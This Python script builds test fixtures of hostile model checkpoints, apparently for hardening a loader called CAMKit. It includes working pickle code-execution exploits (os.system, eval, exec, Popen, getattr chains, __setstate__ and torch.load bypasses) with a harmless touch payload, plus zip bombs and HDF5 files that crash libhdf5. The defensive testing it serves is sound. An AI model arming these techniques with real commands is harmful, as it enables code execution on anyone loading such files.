"""Writes Fixtures/malicious/: hostile checkpoints that CAMKit must refuse without running them.

Pinned: Python 3.11, torch 2.15.0, h5py 3.16.0 (scripts/reference/requirements.txt).
Run from the repository root:  python scripts/reference/make_malicious_checkpoints.py
Idempotent, byte for byte. Each sample is a few KB at most.

Code-execution samples carry a real payload: `touch /tmp/camkit-pwned-<sample>`. Writing them
runs nothing (pickling a __reduce__ only records the call); afterwards the script loads each one
with Python's own `torch.load(weights_only=False)` in a subprocess and checks that the marker
file appears, so every sample is proven to be an attack on a plain unpickler, not a look-alike.
The Swift tests check that no marker appears when CAMKit reads them.

Bounds samples are well-formed archives whose pickle, storage records or sizes lie: lengths
past the end of the stream, memo and stack misuse, views past their storage, declared sizes
larger than the file.

Fixtures/malicious/README.md describes every sample; this script checks that it lists each
file it writes (and nothing else).
"""
import builtins
import collections
import importlib
import io
import json
import os
import pathlib
import pickle
import posix
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib

import h5py
import numpy as np
import torch

OUT = pathlib.Path(__file__).resolve().parents[2] / "Fixtures" / "malicious"
MARKER_PREFIX = "/tmp/camkit-pwned-"
FIXED_TIME = (1980, 1, 1, 0, 0, 0)


def marker(name: str) -> str:
    return MARKER_PREFIX + pathlib.Path(name).stem


class Payload:
    """Pickles as the call `fn(*args)`, the way a hostile checkpoint does. `__call__` only
    lets a Payload stand where pickle expects a callable (a call chain); it is never run here."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)

    def __call__(self, *args):
        raise AssertionError("a payload must never run while the samples are written")


def small_state_dict():
    return collections.OrderedDict([("fc.weight", torch.arange(4, dtype=torch.float32).reshape(2, 2)),
                                    ("fc.bias", torch.zeros(2))])


# --- zip archives -------------------------------------------------------------------------

def zip_bytes(entries) -> bytes:
    """A zip of (name, data), stored as torch.save does, with fixed timestamps so that
    regenerating gives the same bytes."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name, date_time=FIXED_TIME), data)
    return buf.getvalue()


def torch_save_entries(obj, **kwargs):
    """torch.save's archive entries, its random serialization id made fixed."""
    buf = io.BytesIO()
    torch.save(obj, buf, **kwargs)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        return [(i.filename, b"0" * 40 if i.filename.endswith("serialization_id") else z.read(i))
                for i in z.infolist()]


def with_data_pkl(pickle_bytes, storages=(("0", b"\0" * 16),)):
    """A real torch.save archive of a small state dict with its data.pkl replaced."""
    entries = [(n, d) for n, d in torch_save_entries(small_state_dict()) if "/data/" not in n]
    entries = [(n, pickle_bytes if n == "archive/data.pkl" else d) for n, d in entries]
    return zip_bytes(entries + [(f"archive/data/{k}", d) for k, d in storages])


class StorageStub:
    """A storage record written as torch.save writes one: ('storage', type, key, 'cpu', numel)."""

    def __init__(self, key="0", storage_type="FloatStorage", numel=4):
        self.key, self.storage_type, self.numel = key, storage_type, numel


class View:
    """A tensor as torch.save pickles it: _rebuild_tensor_v2(storage, offset, size, stride, ...)."""

    def __init__(self, storage, offset, size, stride):
        self.storage, self.offset, self.size, self.stride = storage, offset, size, stride

    def __reduce__(self):
        return (torch._utils._rebuild_tensor_v2,
                (self.storage, self.offset, self.size, self.stride, False, collections.OrderedDict()))


def state_pickle(obj, protocol=2, legacy=False) -> bytes:
    buf = io.BytesIO()
    pickler = pickle.Pickler(buf, protocol=protocol)

    def persistent_id(o):
        if isinstance(o, StorageStub):
            record = ("storage", getattr(torch, o.storage_type), o.key, "cpu", o.numel)
            return record + (None,) if legacy else record
        return None

    pickler.persistent_id = persistent_id
    pickler.dump(obj)
    return buf.getvalue()


def storage_global(name: str) -> bytes:
    """GLOBAL torch.<name>, written by hand so that unknown storage names can be named too."""
    return b"ctorch\n" + name.encode() + b"\n"


def view_pickle(views, protocol=2, legacy=False) -> bytes:
    """An OrderedDict of views, each `(key, StorageStub, offset, size, stride)`, written by hand:
    pickle cannot write a storage type torch lacks, nor one without an object to stand for it."""
    def binunicode(s):
        b = s.encode()
        return b"X" + struct.pack("<I", len(b)) + b

    def int_(n):
        if 0 <= n < 256:
            return b"K" + bytes([n])
        raw = n.to_bytes((n.bit_length() + 8) // 8 or 1, "little", signed=True)
        return b"\x8a" + bytes([len(raw)]) + raw

    def tuple_(items):
        return b"(" + b"".join(int_(i) for i in items) + b"t"

    out = b"\x80" + bytes([protocol]) + b"ccollections\nOrderedDict\n)R("
    for key, storage, offset, size, stride in views:
        record = (b"(" + binunicode("storage") + storage_global(storage.storage_type) + binunicode(storage.key)
                  + binunicode("cpu") + int_(storage.numel) + (b"N" if legacy else b"") + b"t")
        out += (binunicode(key) + b"ctorch._utils\n_rebuild_tensor_v2\n(" + record + b"Q" + int_(offset)
                + tuple_(size) + tuple_(stride) + b"\x89ccollections\nOrderedDict\n)Rt" + b"R")
    return out + b"u."


# --- hand-made zips whose directory lies about sizes ---------------------------------------

def raw_zip(entries) -> bytes:
    """A zip built field by field: entries are (name, data, method, declared_compressed,
    declared_uncompressed, crc) so that every size can lie. Sizes of 2**32 or more get a ZIP64
    extra field, as a real ZIP64 writer does."""
    local, central, offset = b"", b"", 0
    for name, data, method, csize, usize, crc in entries:
        name_b = name.encode()
        big = csize >= 0xFFFFFFFF or usize >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, usize, csize) if big else b""
        c32, u32 = (0xFFFFFFFF, 0xFFFFFFFF) if big else (csize, usize)
        version = 45 if big else 20
        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, version, 0, method, 0, 0x21, crc, c32, u32,
                             len(name_b), len(extra)) + name_b + extra
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, version, version, 0, method, 0, 0x21, crc,
                               c32, u32, len(name_b), len(extra), 0, 0, 0, 0, offset) + name_b + extra
        local += header + data
        offset += len(header) + len(data)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), offset, 0)
    return local + central + end


def honest(name, data, method=0):
    stored = data if method == 0 else deflate(data)
    return (name, stored, method, len(stored), len(data), zlib.crc32(data))


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def base_entries(pickle_bytes):
    return [honest("archive/data.pkl", pickle_bytes), honest("archive/byteorder", b"little"),
            honest("archive/version", b"3\n")]


# --- the legacy (before PyTorch 1.6) format -------------------------------------------------

LEGACY_MAGIC = 0x1950A86A20F9469CFC6C
SYS_INFO = {"protocol_version": 1001, "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4}}


def legacy_bytes(main_pickle, keys=("0",), storages=((4, b"\0" * 16),), sys_info=None, key_list=None):
    """The legacy layout, field by field: magic, protocol, sys info, object, keys, storages.
    Written by hand because torch.save names legacy storages by memory address, so its
    output differs run to run."""
    out = pickle.dumps(LEGACY_MAGIC, protocol=2) + pickle.dumps(1001, protocol=2)
    out += sys_info if sys_info is not None else pickle.dumps(SYS_INFO, protocol=2)
    out += main_pickle
    out += key_list if key_list is not None else pickle.dumps(list(keys), protocol=2)
    for count, data in storages:
        out += struct.pack("<q", count) + data
    return out


# --- the samples -----------------------------------------------------------------------------

def touch(name):
    return f"touch {marker(name)}"


def code_execution_samples():
    """name -> bytes, for samples whose payload would run under a plain unpickler."""
    s = {}
    sd = small_state_dict()

    def saved(name, payload, **kwargs):
        return zip_bytes(torch_save_entries({"state_dict": sd, "x": payload}, **kwargs))

    n = "zip_os_system.pth"
    s[n] = saved(n, Payload(os.system, touch(n)))                      # GLOBAL posix.system
    n = "zip_os_system_stack_global.pth"
    s[n] = saved(n, Payload(os.system, touch(n)), pickle_protocol=4)   # STACK_GLOBAL posix.system
    n = "zip_os_system_literal.pth"
    cmd = touch(n).encode()
    s[n] = with_data_pkl(b"\x80\x02cos\nsystem\nX" + struct.pack("<I", len(cmd)) + cmd + b"\x85R.")
    n = "zip_builtins_eval.pth"
    s[n] = saved(n, Payload(builtins.eval, f"__import__('os').system({touch(n)!r})"))
    n = "zip_builtins_exec.pth"
    s[n] = saved(n, Payload(builtins.exec, f"import os; os.system({touch(n)!r})"), pickle_protocol=4)
    n = "zip_subprocess_popen.pth"
    s[n] = saved(n, Payload(subprocess.Popen, ["touch", marker(n)]), pickle_protocol=4)
    n = "zip_getattr_chain.pth"
    s[n] = saved(n, Payload(Payload(builtins.getattr, Payload(builtins.__import__, "os"), "system"), touch(n)))

    # The forbidden call's result is the storage offset of a real weight: os.system returns 0,
    # so under torch.load the state dict loads normally and nothing looks wrong.
    n = "zip_chain_in_tensor_offset.pth"
    pkl = state_pickle(collections.OrderedDict([
        ("fc.weight", View(StorageStub(), Payload(posix.system, touch(n)), (2, 2), (2, 1))),
        ("fc.bias", View(StorageStub("1", numel=2), 0, (2,), (1,)))]))
    s[n] = with_data_pkl(pkl, storages=[("0", b"\0" * 16), ("1", b"\0" * 8)])

    # NEWOBJ of the allowed OrderedDict, then BUILD puts posix.system in its instance dict as
    # __setstate__, and a second BUILD calls it: an allowed type as the vehicle.
    n = "zip_build_setstate.pth"
    cmd = touch(n).encode()
    s[n] = with_data_pkl(b"\x80\x02ccollections\nOrderedDict\n)\x81}X\x0c\x00\x00\x00__setstate__cposix\nsystem\nsb"
                         b"X" + struct.pack("<I", len(cmd)) + cmd + b"b.")
    # INST (protocol 0) and OBJ (protocol 1) call the class they name with the marked arguments.
    n = "zip_inst_os_system.pth"
    cmd = touch(n).encode()
    s[n] = with_data_pkl(b"(X" + struct.pack("<I", len(cmd)) + cmd + b"ios\nsystem\n.")
    n = "zip_obj_eval.pth"
    code = f"__import__('os').system({touch(n)!r})".encode()
    s[n] = with_data_pkl(b"(c__builtin__\neval\nX" + struct.pack("<I", len(code)) + code + b"o.")

    # torch's own functions as the payload: torch.load of an inner pickle with an explicit
    # pickle module turns weights_only off, and torch.storage._load_from_bytes always does.
    inner = {}
    for n in ["zip_torch_load.pth", "zip_torch_load_from_bytes.pth"]:
        inner[n] = pickle.dumps(Payload(posix.system, touch(n)), protocol=2)
    n = "zip_torch_load.pth"
    s[n] = saved(n, Payload(torch.load, Payload(io.BytesIO, inner[n]), None,
                            Payload(importlib.import_module, "pickle")), pickle_protocol=4)
    n = "zip_torch_load_from_bytes.pth"
    s[n] = saved(n, Payload(torch.storage._load_from_bytes, inner[n]))

    n = "legacy_os_system.pth"
    s[n] = legacy_bytes(state_pickle({"state_dict": {"fc.weight": View(StorageStub(), 0, (2, 2), (2, 1))},
                                      "x": Payload(os.system, touch(n))}, legacy=True))
    n = "legacy_chain_in_tensor_offset.pth"
    pkl = state_pickle(collections.OrderedDict([
        ("fc.weight", View(StorageStub(), Payload(posix.system, touch(n)), (2, 2), (2, 1)))]), legacy=True)
    s[n] = legacy_bytes(pkl)
    # The payload in the fourth and fifth pickles: every pickle of the file is unpickled.
    n = "legacy_payload_in_sys_info.pth"
    s[n] = legacy_bytes(view_pickle([("w", StorageStub(), 0, (4,), (1,))], legacy=True),
                        sys_info=pickle.dumps(Payload(posix.system, touch(n)), protocol=2))
    n = "legacy_payload_in_key_list.pth"
    s[n] = legacy_bytes(view_pickle([("w", StorageStub(), 0, (4,), (1,))], legacy=True),
                        key_list=pickle.dumps([Payload(posix.system, touch(n))], protocol=2))
    return s


def bounds_samples():
    """name -> bytes, for samples that lie about lengths, indices or sizes."""
    s = {}

    def pkl(body: bytes) -> bytes:
        return with_data_pkl(b"\x80\x02" + body)

    s["pickle_binunicode_past_end.pth"] = pkl(b"X\xf0\xff\xff\x7fabc.")
    s["pickle_binunicode8_past_end.pth"] = pkl(b"\x8d" + struct.pack("<Q", 1 << 40) + b"abc.")
    s["pickle_binbytes_past_end.pth"] = pkl(b"B\xff\xff\xff\xffabc.")
    s["pickle_binbytes8_past_end.pth"] = pkl(b"\x8e" + struct.pack("<Q", 1 << 62) + b"abc.")
    s["pickle_binbytes8_negative.pth"] = pkl(b"\x8e" + struct.pack("<q", -16) + b"abc.")
    s["pickle_short_binbytes_past_end.pth"] = pkl(b"C\xffabc.")
    s["pickle_long4_huge.pth"] = pkl(b"\x8b\xff\xff\xff\x7f\x01\x02.")
    s["pickle_long4_negative.pth"] = pkl(b"\x8b" + struct.pack("<i", -5) + b"\x01\x02.")
    s["pickle_binget_unset.pth"] = pkl(b"]q\x00h\x07.")
    s["pickle_long_binget_huge.pth"] = pkl(b"]q\x00j\xff\xff\xff\xff.")
    s["pickle_setitems_without_mark.pth"] = pkl(b"}X\x01\x00\x00\x00aK\x01u.")
    s["pickle_tuple3_underflow.pth"] = pkl(b"K\x01\x87.")
    s["pickle_stop_on_empty_stack.pth"] = pkl(b".")

    def views(*items, storages=(("0", b"\0" * 16),)):
        return with_data_pkl(view_pickle(items), storages=storages)

    st = StorageStub()
    s["storage_view_past_end.pth"] = views(("w", st, 1 << 40, (4,), (1,)))
    s["storage_negative_offset.pth"] = views(("w", st, -2, (2,), (1,)))
    s["storage_negative_stride.pth"] = views(("w", st, 3, (2, 2), (-1, 1)))
    s["storage_negative_size.pth"] = views(("w", st, 0, (-2, 2), (2, 1)))
    s["storage_size_overflow.pth"] = views(("w", st, 0, (1 << 32, 1 << 32), (0, 0)))
    s["storage_view_larger_than_storage.pth"] = views(("w", st, 0, (1 << 20, 1 << 20), (0, 0)))
    s["storage_numel_overflow.pth"] = views(("w", StorageStub(numel=1 << 62), 0, (4,), (1,)))
    s["storage_missing.pth"] = views(("w", StorageStub("7"), 0, (4,), (1,)))
    s["storage_unknown_dtype.pth"] = views(("w", StorageStub(storage_type="ComplexFloatStorage", numel=2), 0, (2,), (1,)))

    # The storage entry's sizes in the zip directory lie: 1 TiB (ZIP64) declared, 16 bytes there.
    tib = 1 << 40
    pkl_tib = view_pickle([("w", StorageStub(numel=tib // 4), 0, (4,), (1,))])
    s["zip_storage_size_past_file.pth"] = raw_zip(base_entries(pkl_tib) + [
        ("archive/data/0", b"\0" * 16, 0, tib, tib, zlib.crc32(b"\0" * 16))])
    # A zip bomb's data.pkl: deflated, declaring 4 GiB - 16 from 6 bytes.
    bomb = deflate(b"\x80\x02}.")
    s["zip_bomb_data_pkl.pth"] = raw_zip([("archive/data.pkl", bomb, 8, len(bomb), 0xFFFFFFF0, zlib.crc32(b"\x80\x02}.")),
                                          honest("archive/byteorder", b"little"), honest("archive/version", b"3\n")])
    # A stored data.pkl declaring 1 GiB - 16 bytes, under the pickle limit, with 4 there.
    small = b"\x80\x02}."
    s["zip_data_pkl_size_past_file.pth"] = raw_zip([
        ("archive/data.pkl", small, 0, (1 << 30) - 16, (1 << 30) - 16, zlib.crc32(small)),
        honest("archive/byteorder", b"little"), honest("archive/version", b"3\n")])
    # A deflated data.pkl whose stream never ends: a non-final stored block longer than the file.
    never = b"\x00" + struct.pack("<HH", 0xFFFF, 0x0000)
    s["zip_deflate_never_ends.pth"] = raw_zip([("archive/data.pkl", never, 8, len(never), 64, 0),
                                               honest("archive/byteorder", b"little"), honest("archive/version", b"3\n")])

    legacy_view = lambda *items: view_pickle(items, legacy=True)
    s["legacy_view_past_storage.pth"] = legacy_bytes(legacy_view(("w", st, 2, (4,), (1,))))
    s["legacy_storage_past_end.pth"] = legacy_bytes(legacy_view(("w", StorageStub(numel=1000), 0, (4,), (1,))),
                                                    storages=[(1000, b"\0" * 16)])
    huge = (1 << 62) - 1
    s["legacy_storage_count_overflow.pth"] = legacy_bytes(
        legacy_view(("w", StorageStub(storage_type="HalfStorage", numel=huge), 0, (4,), (1,))),
        storages=[(huge, b"\0" * 8)])

    header = b'{"w":{"dtype":"F32","shape":[1048576,1048576],"data_offsets":[0,4398046511104]}}'
    header += b" " * (-len(header) % 8)
    s["safetensors_offsets_past_end.safetensors"] = struct.pack("<Q", len(header)) + header + b"\0" * 16
    return s


def keras_file(path, shape, write=True, vlen_layer_names=False):
    """A Keras 2 style weights file, one Dense layer 'dense' with kernel `shape` and no bias
    (with `vlen_layer_names`, its layer names as Keras 3 writes them)."""
    with h5py.File(path, "w", libver="earliest") as f:
        config = {"class_name": "Sequential", "config": {"name": "seq", "layers": [
            {"class_name": "Dense", "config": {"name": "dense"}}]}}
        f.attrs["model_config"] = json.dumps(config).encode()
        g = f.create_group("model_weights")
        if vlen_layer_names:
            g.attrs.create("layer_names", ["dense"], dtype=h5py.string_dtype())
        else:
            g.attrs["layer_names"] = np.array([b"dense"])
        layer = g.create_group("dense")
        layer.attrs["weight_names"] = np.array([b"dense/kernel:0"])
        if write:
            layer.create_dataset("dense/kernel:0", data=np.arange(np.prod(shape), dtype="<f4").reshape(shape))
        else:
            layer.create_dataset("dense/kernel:0", shape=shape, dtype="<f4", chunks=(1024, 1024))
            # Chunked and never written: every chunk reads as the fill value.


def hdf5_samples(tmp: pathlib.Path):
    s = {}
    # The unmodified file the past-EOF sample is made from: it must load.
    path = tmp / "control.h5"
    keras_file(path, (8, 8))
    s["control_keras_dense.h5"] = path.read_bytes()
    path = tmp / "unwritten.h5"
    keras_file(path, (50_000, 40_000), write=False)
    s["keras_dataset_unwritten.h5"] = path.read_bytes()
    # A contiguous kernel whose data address is moved so that its 256 bytes end past the file.
    path = tmp / "past_eof.h5"
    keras_file(path, (8, 8))
    with h5py.File(path, "r") as f:
        offset = f["model_weights/dense/dense/kernel:0"].id.get_offset()
    data = bytearray(path.read_bytes())
    old = struct.pack("<Q", offset)
    assert data.count(old) == 1, "the kernel's address must appear once, in its layout message"
    at = data.index(old)
    data[at:at + 8] = struct.pack("<Q", len(data) - 128)
    s["keras_dataset_past_eof.h5"] = bytes(data)
    s.update(libhdf5_crash_kinds(tmp))
    for p in tmp.iterdir():
        p.unlink()
    return s


def libhdf5_crash_kinds(tmp: pathlib.Path):
    """Files of the kinds on which fuzz-keras-hdf5 crashed Debian's libhdf5 1.10.8 before
    CAMKit read HDF5 itself (docs/FUZZING.md; the fuzzer's inputs were not kept): each is the
    control file, with variable-length layer names, and one field changed."""
    path = tmp / "vlen.h5"
    keras_file(path, (8, 8), vlen_layer_names=True)
    base = path.read_bytes()
    gcol = base.index(b"GCOL")

    def patched(at, fmt, value, source=base):
        data = bytearray(source)
        struct.pack_into(fmt, data, at, value)
        return bytes(data)

    s = {}
    # H5HG_read: a string's heap object larger than its collection (out-of-bounds memcpy) ...
    s["hdf5_global_heap_object_past_collection.h5"] = patched(gcol + 16 + 8, "<Q", 1 << 40)
    # ... and a string naming an object its collection does not have (segmentation fault).
    reference = struct.pack("<IQ", len("dense"), gcol)  # the string's length and collection
    assert base.count(reference) == 1, "the string's heap reference must appear once"
    s["hdf5_global_heap_index_missing.h5"] = patched(base.index(reference) + 12, "<I", 999)
    # H5C_protect: a metadata entry whose size, read from the file, is 75 TB.
    s["hdf5_global_heap_collection_75tb.h5"] = patched(gcol + 8, "<Q", 75 * 10**12)
    s["hdf5_local_heap_75tb.h5"] = patched(base.index(b"HEAP") + 8, "<Q", 75 * 10**12)
    # H5O__attr_exists: an attribute whose name runs past its message (heap overflow).
    name = base.index(b"weight_names\0")
    s["hdf5_attribute_name_past_message.h5"] = patched(name - 8 + 2, "<H", 0xFFFF)
    # A B-tree node declaring 65 535 entries in a file of a few KB.
    s["hdf5_btree_entries_past_file.h5"] = patched(base.index(b"TREE") + 6, "<H", 0xFFFF)
    return s


# --- proof that the payloads are real ---------------------------------------------------------

def payload_runs(path: pathlib.Path) -> bool:
    """Loads `path` with torch.load(weights_only=False) in a fresh interpreter and reports
    whether its marker file appeared."""
    m = pathlib.Path(marker(path.name))
    m.unlink(missing_ok=True)
    code = ("import sys, torch\n"
            "try:\n    torch.load(sys.argv[1], weights_only=False)\n"
            "except Exception as e:\n    print(type(e).__name__, e)\n")
    subprocess.run([sys.executable, "-c", code, str(path)], check=True, capture_output=True, timeout=120)
    ran = m.exists()
    m.unlink(missing_ok=True)
    return ran


def readme_names() -> set[str]:
    text = (OUT / "README.md").read_text()
    return {line.split("`")[1] for line in text.splitlines() if line.startswith("| `")}


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    attacks = code_execution_samples()
    with tempfile.TemporaryDirectory() as tmp:
        others = {**bounds_samples(), **hdf5_samples(pathlib.Path(tmp))}
    samples = {**attacks, **others}
    for old in OUT.iterdir():
        if old.name != "README.md" and old.name not in samples:
            old.unlink()
    for name, data in sorted(samples.items()):
        assert len(data) <= 12_000, f"{name} is {len(data)} bytes"
        (OUT / name).write_bytes(data)
    assert not any(pathlib.Path(marker(n)).exists() for n in samples), "writing a sample ran its payload"

    for name in sorted(attacks):
        assert payload_runs(OUT / name), f"{name}: torch.load(weights_only=False) did not run the payload"
        print(f"{name}: payload runs under torch.load(weights_only=False)")
    missing, extra = set(samples) - readme_names(), readme_names() - set(samples)
    assert not missing and not extra, f"README.md out of date: missing {sorted(missing)}, extra {sorted(extra)}"
    total = sum(len(d) for d in samples.values())
    print(f"wrote {len(samples)} samples, {total} bytes, to {OUT}")


if __name__ == "__main__":
    main()
